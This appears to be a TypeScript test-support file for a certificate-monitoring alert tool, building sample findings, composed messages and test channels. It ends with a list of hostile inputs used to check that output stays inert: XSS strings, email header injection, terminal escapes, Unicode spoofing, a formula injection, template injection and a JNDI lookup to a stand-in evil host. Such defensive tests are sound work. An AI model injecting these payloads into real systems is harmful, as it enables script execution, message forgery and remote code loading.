import { pino } from 'pino';
import type { z } from 'zod';
import type { Channel, ChannelKind, Message, Takes } from '../../src/alerts/channel.js';
import { compose, type Words } from '../../src/delivery/compose.js';
import type { Finding } from '../../src/model/finding.js';
import { freshFields } from '../support/finding-fields.js';

/** A logger that says nothing. */
export const quiet = pino({ level: 'silent' });

/** A finding with sensible parts. */
export function finding(parts: Partial<Finding> = {}): Finding {
  return {
    id: 'f'.repeat(32),
    rule: 'expired',
    severity: 'critical',
    title: 'Certificate has expired',
    subject: { kind: 'endpoint', key: 'www.example.com|192.0.2.1|443|www.example.com|' },
    details: { notAfter: '2026-11-01T00:00:00.000Z', daysOver: 22 },
    host: 'www.example.com',
    certificateSha256: 'a'.repeat(64),
    ...freshFields(new Date('2026-11-23T10:00:00Z')),
    lastSeenAt: new Date('2026-11-23T12:00:00Z'),
    ...parts,
  };
}

/** `count` different findings, of three rules and all severities. */
export function findings(count: number): Finding[] {
  const kinds = [
    ['expired', 'critical'],
    ['expiring', 'warning'],
    ['weak-key', 'error'],
  ] as const;
  return Array.from({ length: count }, (_, n) => {
    const [rule, severity] = kinds[n % 3]!;
    return finding({ id: n.toString(16).padStart(32, '0'), rule, severity, host: `host-${n}.example.com` });
  });
}

/** What the rules say in tests. */
export const words: Words = {
  ownership: ({ host }) => ({
    owner: host.endsWith('web.example.com') ? 'web' : null,
    environment: null,
    tags: [],
  }),
  consoleUrl: 'https://certglass.example.com',
  ruleWords: () => ({
    remediation: 'Renew it, and reload every server that uses it.',
    citation: 'RFC 5280 section 4.1.2.5',
    theme: 'time',
  }),
};

/** The message that reports these findings, as the outbox makes it. */
export async function message(
  of: readonly Finding[],
  parts: Partial<Message> = {},
  takes: Takes = 'digest',
): Promise<Message> {
  const candidates = of.map((finding) => ({ finding, last: null, why: 'news', items: [] }) as const);
  const group = { candidates, thread: 'c'.repeat(32), kind: 'alert', action: 'trigger' } as const;
  const made = await compose('d'.repeat(32), group, takes, new Date('2026-11-23T12:00:00Z'), words, null);
  return { ...made, ...parts };
}

/** An opened channel of a kind, with these keys beside its example's. */
export function openChannel<Schema extends z.ZodObject>(kind: ChannelKind<Schema>, parts: object): Channel {
  const config = kind.config.parse({ ...kind.example, ...parts });
  return kind.create(config, { name: 'test', log: quiet });
}

/** Texts a certificate may bring that must be inert wherever they are shown. */
export const hostileTexts = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  'a\r\nBcc: thief@evil.example',
  'a\nSubject: forged',
  'a\r\n\r\n<b>body</b>',
  'x\0y.example.com',
  '\u001b[2J\u001b[31mred',
  '\u009b31m',
  '\u202Emoc.elpmaxe',
  'pay\u200Bpal.example',
  'a\u2028b\u2029c',
  '=1+1',
  '\uD800',
  '&lt;script&gt;',
  '{{constructor.constructor("alert(1)")()}}',
  '${jndi:ldap://evil.example/}',
  '</td></tr></table><h1>forged</h1>',
  'x'.repeat(100_000),
  '\u0007'.repeat(5_000),
] as const;
